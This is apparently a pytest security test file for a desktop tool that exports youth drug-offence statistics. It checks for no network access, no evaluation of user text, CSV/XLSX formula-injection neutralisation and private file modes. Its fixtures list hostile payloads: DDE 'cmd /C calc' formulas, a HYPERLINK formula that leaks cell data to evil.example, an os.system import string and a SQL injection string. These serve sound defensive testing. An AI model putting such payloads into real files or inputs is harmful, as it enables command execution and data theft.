"""Nothing leaked, nothing run.

* No network: the window (sample, filters, an export made from its state, a file opened through the
  worker thread) and the CLI (export and info) run with socket creation, connection and name lookup
  patched to record and refuse; nothing tries.
* No user text is evaluated: values such as `__import__('os').system('x')`, `@a`, `=1+1` and
  `'; DROP TABLE x;--` are plain values in filters, search, saved views and the CLI's --filter; and the
  package has no eval/exec/DataFrame.query/pandas.eval at all.
* Formula-like text is neutralised wherever the chart's table (aggregate / suppress / tabulate) is
  written, CSV and XLSX, in cells and in the headers made from values (rows exports: test_export.py).
* Files are private: exports, provenance records (also through the CLI) and the crash log are 0600.
* Temporary files hold no data after exit: no .part file, no openpyxl scratch file in the export folder
  or the system temp folder after a successful, a failed or a cancelled export, nor after a CLI
  process that wrote a workbook has exited.
"""
from __future__ import annotations

import ast
import csv
import errno
import os
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from PySide6.QtCore import QSettings
from PySide6.QtWidgets import QApplication

from youthdrugs_gui.core import export
from youthdrugs_gui.core.cancel import CancelToken
from youthdrugs_gui.core.cli import run_cli
from youthdrugs_gui.core.crashlog import log_exception
from youthdrugs_gui.core.dataset import Dataset
from youthdrugs_gui.core.disclosure import suppress, tabulate
from youthdrugs_gui.core.errors import CancelledError, ExportError, FilterError
from youthdrugs_gui.core.export import atomic, export_rows, export_table
from youthdrugs_gui.core.engine import Engine
from youthdrugs_gui.core.filter_state import FilterState
from youthdrugs_gui.core.sources import load_files
from youthdrugs_gui.core.tables import aggregate

PACKAGE = Path(__file__).resolve().parents[2] / "youthdrugs_gui"
RAW = (Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "raw").resolve()
POSIX = os.name == "posix"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "-@SUM(A1)",
]
HOSTILE = ["__import__('os').system('x')", "@a", "=1+1", "'; DROP TABLE x;--"]


# ---- no network ---------------------------------------------------------------------------------
@pytest.fixture
def no_network(monkeypatch):
    tried: list[str] = []

    def refuse(name):
        def f(*args, **kwargs):
            tried.append(f"{name}{args[:2]!r}")
            raise OSError(errno.EACCES, f"{name}: the network is off limits to this program")
        return f

    class RefusedSocket(socket.socket):  # a class, so modules that subclass socket (ssl) still import
        def __init__(self, *args, **kwargs):
            tried.append(f"socket.socket{args[:2]!r}")
            raise OSError(errno.EACCES, "socket.socket: the network is off limits to this program")

    monkeypatch.setattr(socket, "socket", RefusedSocket)
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    return tried


def _a_real_file(tmp_path: Path) -> Path:
    if RAW.is_dir():
        return RAW / "police-uk-stop-search" / "2020-01-durham-stop-and-search.csv"
    p = tmp_path / "offences.csv"
    p.write_text("Force,Age,Drug class,Count\nKent,15,A,3\nEssex,16,B,2\n", encoding="utf-8")
    return p


def test_window_and_cli_open_no_network_connection(no_network, qtbot, tmp_path, capsys):
    from youthdrugs_gui.qt.mainwindow import MainWindow

    with pytest.raises(OSError):
        socket.getaddrinfo("example.org", 443)  # the trap works ...
    assert no_network == ["socket.getaddrinfo('example.org', 443)"]
    no_network.clear()  # ... and from here on nothing may try
    w = MainWindow(QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(w)
    w.open_sample()
    w.show()
    qtbot.waitExposed(w)
    w.controller.only("force", "Essex")
    w.controller.set_age_range((10, 15))
    w.controller.set_search("possession")
    w.controller.flush()
    QApplication.processEvents()
    state, ds = w.controller.state, w.dataset
    rows = w.controller.result.rows
    assert 0 < len(rows) < ds.n_rows
    export_rows(ds, rows, tmp_path / "rows.csv", provenance={"filter_state": state.to_dict()})
    group = [c for c in (w.controller.group_by, w.controller.stack_by) if c]
    export_table(suppress(aggregate(ds, rows, group), k=5, by=group), tmp_path / "chart.xlsx", dataset=ds)
    w.save_view(str(tmp_path / "v.view.json"))
    real = _a_real_file(tmp_path)
    w.open_files([str(real)])
    qtbot.waitUntil(lambda: not w.dataset.synthetic and not w.loader.busy, timeout=20000)
    assert w.controller.result.n_total > 0

    assert run_cli(["export", "--view", str(tmp_path / "v.view.json"), "-o", str(tmp_path / "cli.csv")]) == 0
    assert run_cli(["export", str(real), "--group-by", "force", "--suppress-below", "5",
                    "-o", str(tmp_path / "cli.xlsx")]) == 0
    assert run_cli(["info", str(real)]) == 0
    capsys.readouterr()
    assert no_network == []
    assert "PySide6.QtNetwork" not in sys.modules  # the window does not even load Qt's network module


# ---- no user text is evaluated ------------------------------------------------------------------
def _hostile_dataset() -> Dataset:
    notes = HOSTILE + ["ordinary", "also ordinary"]
    return Dataset.from_frame(pd.DataFrame({"force": ["Kent"] * len(notes), "Note": notes,
                                            "count": np.arange(1, len(notes) + 1)}), name="hostile")


@pytest.fixture
def nothing_runs(monkeypatch):
    ran: list[object] = []
    monkeypatch.setattr(os, "system", lambda *a: ran.append(("os.system", a)) or 0)
    monkeypatch.setattr(os, "popen", lambda *a, **k: ran.append(("os.popen", a)))
    monkeypatch.setattr(subprocess, "Popen", lambda *a, **k: ran.append(("Popen", a)))
    return ran


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_filter_values_are_plain_values(value, nothing_runs, tmp_path):
    ds = _hostile_dataset()
    engine = Engine(ds)
    want = HOSTILE.index(value)
    state = engine.check(FilterState().with_values("Note", [value]))
    assert list(engine.apply(state).rows) == [want]
    assert list(engine.apply(FilterState().with_search(value)).rows) == [want]
    view = tmp_path / "hostile.view.json"
    state.save(view)
    again = FilterState.load(view)
    assert again == state and list(engine.apply(engine.check(again)).rows) == [want]
    missing = FilterState().with_values("Note", [value + " (not there)"])
    with pytest.raises(FilterError) as err:
        engine.check(missing)
    assert repr(value + " (not there)") in str(err.value)
    assert nothing_runs == []


def test_hostile_values_through_the_window(nothing_runs, qtbot, tmp_path):
    from youthdrugs_gui.qt.mainwindow import MainWindow

    w = MainWindow(QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat))
    qtbot.addWidget(w)
    w.show_dataset(_hostile_dataset())
    for i, value in enumerate(HOSTILE):
        w.controller.reset()
        w.controller.only("Note", value)
        w.controller.flush()
        assert list(w.controller.result.rows) == [i]
        w.controller.reset()
        w.filters.search.setText(value)
        qtbot.waitUntil(lambda v=value: w.controller.state.search == v, timeout=5000)
        w.controller.flush()
        assert list(w.controller.result.rows) == [i]
    assert nothing_runs == []


def test_hostile_values_through_the_cli(nothing_runs, tmp_path, capsys):
    src = tmp_path / "hostile.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        wr = csv.writer(f)
        wr.writerow(["Force", "Note", "Count"])
        for i, v in enumerate(HOSTILE + ["ordinary"]):
            wr.writerow(["Kent", v, i + 1])
    for i, value in enumerate(HOSTILE):
        out = tmp_path / f"out{i}.csv"
        assert run_cli(["export", str(src), "--filter", f"Note={value}", "-o", str(out)]) == 0, capsys.readouterr()
        with open(out, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f))
        assert [r["Count"] for r in rows] == [str(i + 1)]
        assert rows[0]["Note"] == export.neutralise(value)
        out = tmp_path / f"search{i}.csv"
        assert run_cli(["export", str(src), "--search", value, "-o", str(out)]) == 0
        assert len(out.read_text(encoding="utf-8-sig").splitlines()) == 2
    capsys.readouterr()
    assert nothing_runs == []


def test_the_package_never_evaluates_text():
    """No eval/exec/compile of text, no DataFrame.query or pandas.eval anywhere in the program."""
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            f = node.func
            if isinstance(f, ast.Name) and f.id in ("eval", "exec", "compile", "__import__"):
                found.append(f"{path.name}:{node.lineno} {f.id}")
            if isinstance(f, ast.Attribute) and f.attr in ("query", "eval") and not (
                    isinstance(f.value, ast.Name) and f.value.id in ("re",)):
                found.append(f"{path.name}:{node.lineno} .{f.attr}")
    assert found == []


# ---- CSV injection in the chart's table -----------------------------------------------------------
def _owasp_dataset() -> Dataset:
    n = len(OWASP)
    return Dataset.from_frame(pd.DataFrame({
        "Area": OWASP * 2,
        "Kind": [OWASP[(i + 3) % n] for i in range(n)] + [OWASP[(i + 5) % n] for i in range(n)],
        "count": np.arange(1, 2 * n + 1),
    }), name="owasp", labels={"Area": "=Area", "Kind": "@Kind"})


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _assert_safe_csv(path: Path) -> None:
    cells = [c for row in _csv_cells(path) for c in row]
    assert cells
    for c in cells:
        assert not c.startswith(FORMULA_START), (path.name, c)


def _assert_safe_xlsx(path: Path) -> list:
    ws = openpyxl.load_workbook(path).worksheets[-1]
    values = []
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", (path.name, c.coordinate, c.value)
            if isinstance(c.value, str):
                assert not c.value.startswith(FORMULA_START), (path.name, c.value)
            values.append(c.value)
    return values


@pytest.mark.parametrize("shape", ["long", "one dimension", "cross-tab", "cross-tab suppressed"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_chart_table_exports_neutralise_owasp_examples(shape, fmt, tmp_path):
    ds = _owasp_dataset()
    rows = np.arange(ds.n_rows)
    group = ["Area"] if shape in ("long", "one dimension") else ["Area", "Kind"]
    table = aggregate(ds, rows, group)
    if shape == "one dimension":
        table = tabulate(table, by=group)
    elif shape == "cross-tab":
        table = tabulate(table, by=group)
    elif shape == "cross-tab suppressed":
        table = suppress(table, k=5, by=group)
    out = tmp_path / f"chart.{fmt}"
    export_table(table, out, dataset=ds)
    if fmt == "csv":
        _assert_safe_csv(out)
        text = "\n".join(",".join(r) for r in _csv_cells(out))
    else:
        text = "\n".join(str(v) for v in _assert_safe_xlsx(out) if v is not None)
    for payload in OWASP:  # every payload is there, as inert text
        assert "'" + payload in text


def test_cli_summary_table_neutralises_values_and_headers(tmp_path, capsys):
    src = tmp_path / "owasp.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        wr = csv.writer(f)
        wr.writerow(["Force", "=HYPERLINK(\"http://x\")", "@Kind", "Count"])
        for i, v in enumerate(OWASP):
            wr.writerow(["Kent", v, OWASP[-1 - i], i + 1])
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"t.{fmt}"
        assert run_cli(["export", str(src), "--group-by", "=HYPERLINK(\"http://x\")", "--stack-by", "@Kind",
                        "-o", str(out)]) == 0, capsys.readouterr()
        (_assert_safe_csv if fmt == "csv" else _assert_safe_xlsx)(out)
        out = tmp_path / f"rows.{fmt}"
        assert run_cli(["export", str(src), "-o", str(out)]) == 0
        (_assert_safe_csv if fmt == "csv" else _assert_safe_xlsx)(out)
    capsys.readouterr()


# ---- private files ----------------------------------------------------------------------------------
def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


@pytest.mark.skipif(not POSIX, reason="file modes are POSIX")
def test_cli_exports_tables_and_the_crash_log_are_private(tmp_path, capsys, monkeypatch):
    old = os.umask(0o022)
    try:
        assert run_cli(["export", "--force", "Kent", "-o", str(tmp_path / "a.csv")]) == 0
        assert run_cli(["export", "--group-by", "force", "-o", str(tmp_path / "b.xlsx")]) == 0
        export_table(pd.DataFrame({"x": ["a"], "count": [1]}), tmp_path / "c.csv")
        try:
            raise RuntimeError("a bug")
        except RuntimeError as e:
            log = log_exception(type(e), e, e.__traceback__)
    finally:
        os.umask(old)
    capsys.readouterr()
    for name in ("a.csv", "a.csv.provenance.json", "b.xlsx", "b.xlsx.provenance.json", "c.csv",
                 "c.csv.provenance.json"):
        assert _mode(tmp_path / name) == 0o600, name
    assert log.parent == Path(os.environ["XDG_DATA_HOME"]) / "youthdrugs_gui"
    assert _mode(log) == 0o600
    assert "RuntimeError: a bug" in log.read_text()


# ---- temporary files ---------------------------------------------------------------------------------
@pytest.fixture
def private_tmp(tmp_path, monkeypatch) -> Path:
    t = tmp_path / "systemtmp"
    t.mkdir()
    monkeypatch.setenv("TMPDIR", str(t))
    monkeypatch.setattr(tempfile, "tempdir", str(t))
    return t


def _ds() -> Dataset:
    n = 5_000
    return Dataset.from_frame(pd.DataFrame({"force": np.array(["Kent", "Essex"], dtype=object)[np.arange(n) % 2],
                                            "Note": [f"n{i % 700}" for i in range(n)], "count": np.ones(n, int)}),
                              name="t")


def test_no_temporary_file_outlives_an_export(tmp_path, private_tmp, monkeypatch):
    from openpyxl.worksheet import _writer

    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    ds = _ds()
    rows = np.arange(ds.n_rows)
    export_rows(ds, rows, out_dir / "ok.xlsx")
    export_rows(ds, rows, out_dir / "ok.csv")
    cancelled = CancelToken()
    cancelled.cancel()
    with pytest.raises(CancelledError):
        export_rows(ds, rows, out_dir / "cancelled.xlsx", cancel=cancelled)  # after the sheet is written
    with pytest.raises(CancelledError):
        export_rows(ds, rows, out_dir / "cancelled.csv", cancel=cancelled)
    real_fsync = os.fsync

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(atomic.os, "fsync", full)
    with pytest.raises(ExportError):
        export_rows(ds, rows, out_dir / "full.xlsx")
    monkeypatch.setattr(atomic.os, "fsync", real_fsync)
    assert sorted(p.name for p in out_dir.iterdir()) == ["ok.csv", "ok.csv.provenance.json", "ok.xlsx",
                                                        "ok.xlsx.provenance.json"]
    assert list(private_tmp.iterdir()) == []
    assert _writer.ALL_TEMP_FILES == []
    load_files(out_dir / "ok.xlsx")  # reading a workbook leaves nothing behind either
    assert list(private_tmp.iterdir()) == []


def test_no_temporary_file_outlives_the_cli_process(tmp_path):
    t = tmp_path / "systemtmp"
    t.mkdir()
    env = dict(os.environ, TMPDIR=str(t), XDG_DATA_HOME=str(tmp_path / "data"))
    for args in (["--force", "Kent", "-o", str(tmp_path / "k.xlsx")],
                 ["--force", "Kent", "-o", str(tmp_path / "no" / "such" / "k.xlsx")]):
        subprocess.run([sys.executable, "-m", "youthdrugs_gui", "export", *args], env=env, capture_output=True,
                       timeout=180)
    assert list(t.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "k.xlsx", "k.xlsx.provenance.json", "systemtmp"] \
        or sorted(p.name for p in tmp_path.iterdir()) == ["k.xlsx", "k.xlsx.provenance.json", "systemtmp"]
